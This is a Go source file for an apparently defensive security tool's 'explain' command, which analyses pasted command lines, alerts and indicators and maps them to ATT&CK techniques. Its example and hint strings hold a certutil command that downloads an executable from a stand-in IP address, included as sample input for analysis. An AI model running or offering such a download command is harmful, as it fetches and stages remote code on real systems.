package workflow

import (
	"context"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/explain"
	"github.com/casemate-ai/casemate/internal/security/intake"
	"github.com/casemate-ai/casemate/internal/security/narrate"
	"github.com/casemate-ai/casemate/internal/security/page"
	"github.com/casemate-ai/casemate/internal/security/pipeline"
)

// maxExplain is how much is read to be explained.
const maxExplain = 8 << 20

// ExplainInput says what to explain.
type ExplainInput struct {
	Text []string `json:"text" arg:"" optional:"" name:"text" help:"Anything, in single quotes; or a file's name; nothing or - reads standard input."`
}

func explainEntry() Workflow {
	return entry(Workflow{
		Name: "explain", Group: GroupSOC, Model: true,
		Summary: "Explain anything pasted: a command line, a log line, an alert, an id, a hash, a URL.",
		Help:    "Says what a text is, undoes its encodings, names the programs and options that it knows, and the ATT&CK techniques that it shows, each with the words that show it. A model adds a few sentences, each with what it rests on.",
		Example: "casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe'",
		Output:  narrate.Output{},
	}, runExplain)
}

func runExplain(ctx context.Context, in *ExplainInput, env Env) (Result, error) {
	input, err := in.text(env.Stdin)
	if err != nil {
		return Result{}, err
	}
	if strings.TrimSpace(input) == "" {
		return Result{}, usage("explain needs something to explain",
			"try: casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe', or casemate explain T1003.001")
	}
	rules, err := intake.LoadRules(nil, false)
	if err != nil {
		return Result{}, err
	}
	run, err := pipeline.Start(env.Options)
	if err != nil {
		return Result{}, err
	}
	out, err := narrate.Run(ctx, run, narrate.Input{Text: input, Rules: rules.Engine})
	if err != nil {
		return Result{}, err
	}
	p := narrate.Page(out)
	r := Result{Value: out, Page: &p}
	if env.Engine == nil { // the form for a terminal knows explanations better than a page does
		r.Text = func(w io.Writer, o page.TerminalOptions) error {
			return explain.WriteText(w, out.Explanation, o.Width, o.Color)
		}
		r.Markdown = func(w io.Writer) error { return explain.WriteMarkdown(w, out.Explanation) }
	}
	return r, nil
}

// text returns the text to explain: the arguments, a file that they name, or
// standard input.
func (in *ExplainInput) text(stdin io.Reader) (string, error) {
	if len(in.Text) == 0 || len(in.Text) == 1 && in.Text[0] == "-" {
		return readText(stdin, "standard input")
	}
	if len(in.Text) == 1 {
		if info, err := os.Stat(in.Text[0]); err == nil && info.Mode().IsRegular() {
			f, err := os.Open(in.Text[0])
			if err != nil {
				return "", fmt.Errorf("explain: %w", err)
			}
			defer f.Close()
			return readText(f, in.Text[0])
		}
	}
	return strings.Join(in.Text, " "), nil
}

func readText(r io.Reader, name string) (string, error) {
	b, err := io.ReadAll(io.LimitReader(r, maxExplain+1))
	if err != nil {
		return "", fmt.Errorf("read %s: %w", name, err)
	}
	if len(b) > maxExplain {
		return "", &casemate.Error{Code: casemate.CodeInput, Message: fmt.Sprintf("%s is over %d MiB", name, maxExplain>>20),
			Hint: "explain is for one thing at a time: cut it out of the file, or use casemate triage for logs"}
	}
	return string(b), nil
}
